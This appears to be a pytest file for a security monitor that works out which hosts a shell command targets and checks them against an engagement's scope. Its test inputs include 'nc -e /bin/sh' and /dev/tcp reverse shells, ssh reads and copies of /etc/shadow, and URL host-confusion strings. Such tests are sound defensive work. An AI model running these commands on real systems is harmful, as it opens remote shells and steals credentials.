"""At which hosts a line is aimed: what it spells out, and never less."""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from lathe.guard.acts.monitor import ActMonitor, shipped_rules
from lathe.guard.aims import UNTOLD, aimed, hosts_of
from lathe.guard.engaged import Targets
from lathe.guard.shell import Part

MONITOR = ActMonitor(shipped_rules())
SHELL = "nc -e /bin/sh"


@pytest.mark.parametrize(
    ("line", "clause", "targets"),
    [
        (f"cd x && {SHELL} shop.example 4444 2>&1 | tee out.txt", "exploit.chain", ["shop.example"]),
        (f"timeout 9 {SHELL} 192.0.2.7 4444 > log.txt", "exploit.chain", ["192.0.2.7"]),
        (f"bash -c '{SHELL} shop.example 4444'", "exploit.chain", ["shop.example"]),
        (f"{SHELL} shop.example 1; {SHELL} other.example 1", "exploit.chain", ["shop.example", "other.example"]),
        ("ssh root@shop.example cat /etc/shadow", "credential.theft", ["shop.example"]),
        ("ssh -p 22 shop.example cat /etc/shadow", "credential.theft", ["shop.example"]),
        # another host than the one that is named beside
        (f"{SHELL} 3221225991 4444 shop.example", "exploit.chain", ["shop.example", UNTOLD]),
        (f"{SHELL} 0xc0000207 4444 # shop.example", "exploit.chain", [UNTOLD]),
        ("ssh box cat /etc/shadow shop.example", "credential.theft", ["shop.example", UNTOLD]),
        (f"H=shop.example; {SHELL} $H 4444", "exploit.chain", [UNTOLD]),
        (f"{SHELL} $(cat host) 4444; ping shop.example", "exploit.chain", [UNTOLD]),
        ("bash -i >& /dev/tcp/shop.example/443 0>&1", "exploit.chain", [UNTOLD]),
        # this machine, whatever the files are called
        ("cat /etc/shadow; ssh shop.example", "credential.theft", [UNTOLD]),
        ("cp /etc/shadow shop.example", "credential.theft", [UNTOLD]),
    ],
)
def test_an_act_is_aimed_at_what_its_own_command_spells_out(line: str, clause: str, targets: list[str]) -> None:
    found = [one for one in aimed(MONITOR.look(line), [line], MONITOR.look) if one.clause == clause]
    assert found and all(list(one.targets) == targets for one in found)


@pytest.mark.parametrize(
    ("words", "hosts", "within"),
    [
        (("curl", "https://shop.example/a%20b?to=http://other.example/"), ("https://shop.example",), True),
        (("git", "clone", "https://git.example/owner/name"), ("https://git.example/owner/name",), True),
        (("git", "clone", "https://git.example/other/name"), ("https://git.example/other/name",), False),
        (("curl", "https://shop.example@other.example/"), ("https://shop.example@other.example/",), False),
        (("curl", "https://shop.example%2eother.example/"), ("https://shop.example%2eother.example",), False),
        (("nmap", "-oN", "out.txt", "shop.example"), ("shop.example",), True),
        (("python3", "poc.py", "shop.example"), (), False),
    ],
)
def test_what_is_named_is_compared_with_the_targets_of_an_engagement(
    words: tuple[str, ...], hosts: tuple[str, ...], within: bool
) -> None:
    named = SimpleNamespace(domains=("shop.example",), networks=(), repositories=("git.example/owner/name",))
    found = hosts_of(Part(words))
    assert found == hosts and (bool(found) and all(map(Targets(named).cover, found))) == within
